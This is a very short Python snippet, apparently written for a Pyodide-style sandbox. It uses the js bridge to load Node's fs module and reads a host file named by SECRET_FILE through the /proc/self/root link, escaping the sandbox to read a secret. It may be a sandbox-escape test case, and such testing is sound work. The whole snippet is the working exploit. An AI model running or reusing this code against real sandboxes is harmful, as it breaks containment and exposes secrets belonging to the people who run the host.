"""Reaches a file of the host by the kernel's link to the root of its own process."""

import js

fs = js.process.getBuiltinModule("fs")
print(fs.readFileSync("/proc/self/root" + SECRET_FILE, "utf8"))
